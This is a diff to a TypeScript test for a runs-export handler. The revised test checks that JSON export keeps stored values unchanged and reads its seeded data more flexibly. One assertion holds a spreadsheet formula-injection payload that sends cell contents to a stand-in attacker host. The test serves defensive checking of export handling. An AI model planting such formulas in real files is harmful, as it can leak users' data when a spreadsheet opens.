@@ -60,9 +60,11 @@ describe('runs export with real rows', () => {
   })
 
   it('JSON keeps every value exactly as stored (it is data, not a spreadsheet)', async () => {
-    const { hostile } = await seed()
-    const runs = JSON.parse((await core.handlers['runs.export']({ format: 'json' })).content) as { id: number; vm: string; metrics: Record<string, number> }[]
-    const h = runs.find((r) => r.id === hostile)!
+    await seed()
+    type Run = { vm: string; metrics: Record<string, number> }
+    // A list of runs, or a document holding them under `runs`.
+    const doc = JSON.parse((await core.handlers['runs.export']({ format: 'json' })).content) as Run[] | { runs: Run[] }
+    const h = (Array.isArray(doc) ? doc : doc.runs).find((r) => r.vm.includes('HYPERLINK'))!
     expect(h.vm).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")')
     expect(h.metrics.qemu_downtime_ms).toBe(-3.2)
   })
